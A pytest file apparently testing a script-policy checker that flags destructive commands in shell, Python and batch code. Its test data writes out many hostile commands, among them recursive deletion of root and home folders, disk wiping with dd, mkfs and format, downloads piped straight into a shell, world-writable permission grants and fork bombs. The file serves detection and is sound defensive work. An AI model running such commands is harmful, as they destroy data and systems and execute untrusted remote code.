"""Commands that need risk level HIGH."""

from __future__ import annotations

import pytest

from cocsync.policy import dangerous
from tests.policy.samples import lines, reading, rules

SHELL = [
    *(("delete-root", f"rm {what}") for what in ("-rf /", "-r -f -- /*", "-fR //", "--recursive --force /", "-rf ~")),
    *(
        ("delete-root", f"rm -rf {what}")
        for what in ('"/"', "'/'", "$HOME", '"${HOME}"/*', "~/*", "/etc", "/usr/", "/var/*")
    ),
    ("delete-root", "rm --no-preserve-root -r x"),
    ("delete-root", "cd /tmp && sudo rm -rf /"),
    ("delete-root", "sudo -u root -n rm -rf /"),
    ("delete-root", "if true; then rm -rf /; fi"),
    ("delete-root", "timeout -s KILL 60 nice -n 19 /bin/rm -rf /"),
    ("delete-root", "LC_ALL=C command rm -rf /"),
    ("delete-root", "x=$(rm -rf /)"),
    ("delete-root", "f() { rm -rf /; }"),
    ("delete-root", "{ rm -rf / ; }"),
    ("delete-root", "rm -rf \\\n  /"),
    ("delete-root", "true &&\n  rm -rf /"),
    ("delete-root", "bash -c 'rm -rf /'"),
    ("delete-root", 'su - postgres -c "rm -rf ~"'),
    ("delete-root", 'eval "rm -rf /"'),
    ("delete-root", "ssh host1 rm -rf /"),
    ("delete-root", "find / -delete"),
    ("delete-root", "find /var -xdev -type f -exec rm -f {} +"),
    ("erase-disk", "mkfs /dev/vdb"),
    ("erase-disk", "mkfs.ext4 -F /dev/vdb1"),
    ("erase-disk", "mke2fs /dev/mapper/data"),
    ("erase-disk", "dd if=/dev/zero of=/dev/sda bs=1M"),
    ("erase-disk", "cat image > /dev/nvme0n1"),
    ("erase-disk", 'echo >"/dev/sdb"'),
    ("erase-disk", "cp image /dev/vda"),
    ("erase-disk", "tee /dev/xvda < image"),
    ("erase-disk", "wipefs -a /dev/vdb"),
    ("erase-disk", "shred -n 3 /dev/hda"),
    ("erase-disk", "blkdiscard /dev/nvme0n1"),
    *(
        ("pipe-to-shell", f"curl -fsSL https://x.example | {shell}")
        for shell in ("sh", "sudo -E bash -", "bash -s -- -y")
    ),
    ("pipe-to-shell", "wget -qO- https://x.example|sh"),
    ("pipe-to-shell", "curl https://x.example |\n  bash -ex"),
    ("pipe-to-shell", "curl https://x.example \\\n  | gunzip | bash > /dev/null 2>&1"),
    ("pipe-to-shell", "curl https://x.example |& tee log | python3"),
    ("pipe-to-shell", "curl https://x.example | python3 -u -"),
    ("pipe-to-shell", "bash <(curl -s https://x.example)"),
    ("pipe-to-shell", 'sh -c "$(curl -s https://x.example)"'),
    ("pipe-to-shell", "bash -c `curl -s https://x.example`"),
    ("pipe-to-shell", 'eval "$(wget -qO- https://x.example)"'),
    ("pipe-to-shell", ". <(curl -s https://x.example)"),
    *(
        ("open-permissions", f"chmod {mode} /srv")
        for mode in ("777", "-R 0777", "2777", "a+rwx", "-R o=rwx", "ugo+rwx")
    ),
    ("fork-bomb", ":(){ :|:& };:"),
    ("fork-bomb", "bomb() { bomb | bomb & }; bomb"),
]
PYTHON = [
    ("delete-root", 'os.system("rm -rf /")'),
    ("delete-root", "subprocess.run(['rm', '-rf', '/'], check=True)"),
    ("delete-root", 'shutil.rmtree("/etc")'),
    ("delete-root", "rmtree('/')"),
    ("erase-disk", 'subprocess.run(["dd", "if=/dev/zero", "of=/dev/sda"])'),
    ("erase-disk", 'open("/dev/sda", "wb")'),
    ("pipe-to-shell", 'os.system("curl https://x.example | sh")'),
    ("pipe-to-shell", "exec(urllib.request.urlopen(url).read())"),
    ("open-permissions", "os.chmod(path, 0o777)"),
    ("fork-bomb", "while True:\n    os.fork()"),
]
BAT = [
    *(("delete-root", f"del /f /s /q {what}") for what in ("C:\\", "C:\\*.*", "%SystemDrive%\\*", "\\", "C:\\Windows")),
    ("delete-root", "DEL /S/Q C:\\*"),
    ("delete-root", "rd /s /q %SystemRoot%"),
    ("delete-root", 'rmdir "d:\\" /s /q'),
    ("delete-root", "if exist C:\\old.txt rd /s /q C:\\"),
    ("delete-root", 'powershell -NoProfile -Command "Remove-Item -Recurse -Force C:\\"'),
    ("erase-disk", "format D: /q /y"),
    ("erase-disk", "echo y| format.com e:"),
    ("erase-disk", "for %%d in (D E) do format %%d: /q"),
    ("erase-disk", 'powershell -c "Clear-Disk -Number 1 -RemoveData; x"'),
    ("pipe-to-shell", 'powershell -Command "iwr https://x.example | iex"'),
    ("pipe-to-shell", "powershell iex (New-Object Net.WebClient).DownloadString('https://x.example')"),
    ("pipe-to-shell", "curl https://x.example | cmd /c bash"),
    ("open-permissions", "icacls C:\\data /grant Everyone:F /t"),
    ("open-permissions", 'icacls "C:\\data" /grant:r *S-1-1-0:(OI)(CI)F'),
    ("fork-bomb", "%0|%0"),
]
HARMLESS = [
    "rm -rf /tmp/build",
    "rm -f /",
    "rm -rf -- \"$tmp/work\" 'etc'",
    "rm -rf /var/log/app/*",
    "rm -rf /home/app/cache",
    "rm",
    "# rm -rf /",
    "true # rm -rf /",
    "echo rm -rf /",
    "printf '%s' 'never do rm -rf /'",
    "grep -r / x",
    "find / -name core -delete",
    "find /var/log -mtime +7 -delete",
    "find . -exec rm -r {} \\;",
    "find / -type f",
    "mkfs --help",
    "mkfs",
    "dd if=/dev/sda of=backup.img",
    "cp /dev/sda backup.img",
    "cat < /dev/sda > image",
    "echo x > /dev/null",
    "echo x >/dev/stderr",
    "wipefs /dev/vdb",
    "ls /dev/sda",
    "curl https://x.example -o x.sh",
    "curl https://x.example > f; sh f",
    "curl https://x.example || sh fallback.sh",
    "curl https://x.example | bash verify.sh",
    "curl https://x.example | python3 -m json.tool",
    "curl https://x.example | python3 -c 'import sys'",
    "curl https://x.example | bash -c 'cat'",
    "curl https://x.example | grep sh",
    "cat x | sh",
    "x=$(curl https://x.example)",
    "bash -c 'x'; y=$(curl https://x.example)",
    "chmod 755 x",
    "chmod 1777 /tmp/shared",
    "chmod u+rwx x",
    "chmod 7777x",
    "f() { g | h & }",
    "eval",
    "ssh host",
    "bash -x",
    "",
]


@pytest.mark.parametrize(
    ("kind", "rule", "content"),
    [(kind, *row) for kind, rows in (("SHELL", SHELL), ("PYTHON", PYTHON), ("BAT", BAT)) for row in rows],
)
def test_is_found(kind: str, rule: str, content: str) -> None:
    assert rules(dangerous.find, f"echo x\n{content}\n", kind) == [rule]


@pytest.mark.parametrize("content", HARMLESS)
def test_is_harmless(content: str) -> None:
    assert rules(dangerous.find, content) == []


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("BAT", "rem del /s /q C:\\"),
        ("BAT", ":: format D:"),
        ("BAT", "del /s /q C:\\temp\\*.log"),
        ("BAT", "del C:\\x.txt"),
        ("BAT", "format /?"),
        ("BAT", "format"),
        ("BAT", "icacls C:\\data /grant Everyone:R"),
        ("PYTHON", '"{}".format("C:")'),
        ("PYTHON", "shutil.rmtree(folder)"),
        ("PYTHON", 'open("/dev/sda", "rb")'),
        ("PYTHON", "# os.system('rm -rf /')"),
    ],
)
def test_is_harmless_in_other_languages(kind: str, content: str) -> None:
    assert rules(dangerous.find, content, kind) == []


def test_nothing_is_said_of_a_script_of_risk_level_high() -> None:
    assert rules(dangerous.find, "rm -rf /", risk_level="HIGH") == []


def test_the_finding_stands_where_the_command_does() -> None:
    content = "#!/bin/sh\n\necho x; rm -rf \\\n  /\n"
    (found,) = dangerous.find(reading(content))
    assert (found.line, found.column) == (3, 9)
    assert found.message.startswith(
        "`rm` deletes a root or system folder with all below it, and the risk level is LOW: "
    )


def test_each_one_is_found() -> None:
    assert lines(dangerous.find, "rm -rf /\nrm -rf /etc\n") == [1, 2]
